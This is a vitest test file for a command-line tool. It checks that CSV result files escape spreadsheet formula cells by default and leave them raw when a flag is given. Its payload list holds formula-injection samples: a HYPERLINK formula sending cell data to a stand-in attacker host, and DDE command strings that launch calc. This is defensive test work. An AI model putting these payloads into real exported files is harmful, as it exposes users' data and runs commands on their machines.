/**
 * Results made for spreadsheets never run what a transcript or a model put in them (issue 10,
 * finding 7): `run --results results.csv` escapes formula cells by default; the option turns it off.
 */
import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tempDir } from '../support/temp.js';
import { cli } from '../support/cli.js';

let dir: string;
let cleanup: () => Promise<void>;
beforeEach(async () => {
  ({ dir, cleanup } = await tempDir('spreadsheet-'));
});
afterEach(() => cleanup());

const PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"invoice")', '@SUM(9*9)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];

describe('run --results <file>.csv', () => {
  it('escapes every cell a spreadsheet would run (passthrough columns and model text), unless --no-csv-escape-formulas', { timeout: 60_000 }, async () => {
    const rows = PAYLOADS.map((p, i) => `call-${i},"${p.replace(/"/g, '""')}","Customer: I want a refund for order ${i}.\nAgent: Done, the refund is on its way."`);
    await writeFile(join(dir, 'calls.csv'), `call_id,note,transcript\n${rows.join('\n')}\n`);
    const base = ['run', 'calls.csv', '--passthrough', 'note', '-q'];
    const safe = await cli([...base, '--work', 'a', '--results', 'a/results.csv'], dir);
    expect(safe.code, safe.stderr).toBe(0);
    const escaped = parse(readFileSync(join(dir, 'a', 'results.csv')), { columns: true }) as Record<string, string>[];
    expect(escaped.map((r) => r.note).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    const raw = await cli([...base, '--work', 'b', '--results', 'b/results.csv', '--no-csv-escape-formulas'], dir);
    expect(raw.code, raw.stderr).toBe(0);
    const asIs = parse(readFileSync(join(dir, 'b', 'results.csv')), { columns: true }) as Record<string, string>[];
    expect(asIs.map((r) => r.note).sort()).toEqual([...PAYLOADS].sort());
  });
});
